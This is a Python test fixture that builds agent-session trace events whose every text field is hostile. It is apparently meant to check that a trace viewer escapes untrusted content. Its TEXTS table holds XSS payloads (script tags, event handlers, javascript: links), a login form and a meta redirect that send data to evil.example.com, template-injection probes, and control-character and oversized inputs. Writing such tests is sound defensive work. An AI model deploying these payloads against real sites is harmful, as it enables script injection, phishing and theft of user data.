"""Traces whose every text is hostile: made to run, to leave the page, to hide, to disguise, or to choke the reader."""

import json
from collections.abc import Iterator
from typing import Any
from uuid import UUID

MARK = "h0st1le"
TEXTS = {
    "script": f"<script>parent.{MARK}=1;alert('{MARK}')</script>",
    "script-closing": f"</pre></bdi></script></style></textarea></title><script>alert('{MARK}')</script>",
    "handler": f"\"'><img src=x onerror=\"alert('{MARK}')\"><svg onload=alert('{MARK}')>",
    "attribute": f'" autofocus onfocus="alert(\'{MARK}\')" style="position:fixed;inset:0" x="',
    "javascript-link": f"javascript:alert('{MARK}')",
    "data-link": f"data:text/html,<script>alert('{MARK}')</script>",
    "markdown": f"[here](javascript:alert('{MARK}')) ![x](https://evil.example.com/{MARK}.png)",
    "remote-image": f'<img src="https://evil.example.com/{MARK}.png"><link rel=stylesheet href=//evil.example.com>',
    "frame": f'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="//evil.example.com/{MARK}">',
    "form": f'<form action="https://evil.example.com/{MARK}"><input name=key><button>Sign in</button></form>',
    "meta": f'<meta http-equiv="refresh" content="0;url=https://evil.example.com/{MARK}"><base href="//evil.test/">',
    "htmx": f'<a hx-get="https://evil.example.com/{MARK}" hx-trigger="load" hx-on:click="alert(1)">x</a><hx-partial>',
    "template": f"{{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %> {MARK}",
    "bidi": f"\u202egnp.{MARK}\u2066\u2069\u200f\u061c\u200b\ufeff\U000e0041",
    "ansi": f"\x1b[31m{MARK}\x1b[0m\x1b]8;;https://evil.example.com\x07link\x1b]8;;\x07\x9b2J",
    "zero": f"a\x00b\x01\x7f\x85{MARK}",
    "surrogate": f"{MARK} \ud800 alone \udfff",
    "zalgo": f"{MARK} " + "Z" + "\u0300\u0316" * 500,
    "newlines": f"{MARK}\r\n\u2028\u2029\x0b\x0c" * 50,
    "empty-looking": "\u00a0\u2003\u3164\u115f\u2800",
    "one-word": MARK * 400,
}
LONG_LINE = MARK + "x" * 1_000_000
LONG_JSON = json.dumps({"rows": [{"id": number, "name": f"{MARK} <b>{number}</b>"} for number in range(50_000)]})
DEEP_JSON = '{"a":' * 180 + f'"{MARK}"' + "}" * 180
_START = "2026-11-20T08:00:{:02d}.000Z"


def hostile_bodies() -> Iterator[bytes]:
    """Events of one session for each hostile text, and for texts that are long; those too long belong in quarantine."""
    for number, text in enumerate(TEXTS.values()):
        yield b"\n".join(_session(number, text, text))
    for number, text in enumerate((LONG_LINE, LONG_JSON, DEEP_JSON), len(TEXTS)):
        yield from _session(number, text, "a short name")


def _session(number: int, text: str, name: str) -> Iterator[bytes]:
    uuid = str(UUID(int=0xFEED_0000_0000_4000_8000_0000_0000_0000 + number))
    who = {
        "agentId": f"AGENT{number:05d}",
        "agentAliasId": name[:200],
        "agentVersion": name[:200],
        "collaboratorName": name[:200],
        "sessionId": f"hostile {number} {name[:200]}",
    }
    for place, (kind, step) in enumerate(_steps(uuid, text, name)):
        yield json.dumps({**who, "eventTime": _START.format(place), "trace": {kind: step}}).encode()


def _steps(uuid: str, text: str, name: str) -> Iterator[tuple[str, dict[str, Any]]]:
    first, second, third = (f"{uuid}-{place}" for place in range(3))
    prompt = json.dumps({"system": text, "messages": [{"role": "user", "content": f"[{{text={text}, type=text}}]"}]})
    yield (
        "guardrailTrace",
        {
            "traceId": f"{uuid}-guardrail-pre-0",
            "action": "INTERVENED",
            "inputAssessments": [
                {"topicPolicy": {"topics": [{"name": text, "type": "DENY", "action": "BLOCKED"}]}},
                {"wordPolicy": {"customWords": [{"match": text, "action": "BLOCKED"}]}},
            ],
        },
    )
    yield (
        "orchestrationTrace",
        {
            "modelInvocationInput": {
                "traceId": first,
                "type": "ORCHESTRATION",
                "text": prompt,
                "foundationModel": name[:500],
                "inferenceConfiguration": {"stopSequences": [text]},
            }
        },
    )
    yield (
        "orchestrationTrace",
        {
            "modelInvocationOutput": {
                "traceId": first,
                "rawResponse": {"content": json.dumps({"output": {"message": {"content": [{"text": text}]}}})},
                "reasoningContent": {"reasoningText": {"text": text, "signature": text}},
            }
        },
    )
    yield "orchestrationTrace", {"rationale": {"traceId": first, "text": text}}
    yield (
        "orchestrationTrace",
        {
            "invocationInput": {
                "traceId": first,
                "invocationType": "ACTION_GROUP",
                "actionGroupInvocationInput": {
                    "actionGroupName": name[:500],
                    "function": name[:500],
                    "apiPath": name[:500],
                    "verb": name[:50],
                    "parameters": [{"name": name[:500], "type": name[:500], "value": text}],
                    "requestBody": {
                        "content": {"application/json": [{"name": name[:500], "type": "x", "value": text}]}
                    },
                },
            }
        },
    )
    yield (
        "orchestrationTrace",
        {"observation": {"traceId": first, "type": "ACTION_GROUP", "actionGroupInvocationOutput": {"text": text}}},
    )
    yield (
        "orchestrationTrace",
        {
            "invocationInput": {
                "traceId": second,
                "invocationType": "KNOWLEDGE_BASE",
                "knowledgeBaseLookupInput": {"knowledgeBaseId": name[:500], "text": text},
            }
        },
    )
    yield (
        "orchestrationTrace",
        {
            "observation": {
                "traceId": second,
                "type": "KNOWLEDGE_BASE",
                "knowledgeBaseLookupOutput": {
                    "retrievedReferences": [
                        {
                            "content": {"text": text},
                            "location": {"type": "WEB", "webLocation": {"url": text[:2000]}},
                            "metadata": {name[:500]: text},
                        },
                        {"content": {"text": text}, "location": {"type": "S3", "s3Location": {"uri": text[:2000]}}},
                    ]
                },
            }
        },
    )
    yield (
        "orchestrationTrace",
        {
            "invocationInput": {
                "traceId": third,
                "invocationType": "ACTION_GROUP_CODE_INTERPRETER",
                "codeInterpreterInvocationInput": {"code": text, "files": [name[:500]]},
            }
        },
    )
    yield (
        "orchestrationTrace",
        {
            "observation": {
                "traceId": third,
                "type": "ACTION_GROUP",
                "codeInterpreterInvocationOutput": {
                    "executionError": text,
                    "executionOutput": text,
                    "files": [name[:500]],
                },
            }
        },
    )
    yield "failureTrace", {"traceId": f"{uuid}-2", "failureReason": text}
    yield "orchestrationTrace", {"observation": {"traceId": third, "type": "FINISH", "finalResponse": {"text": text}}}
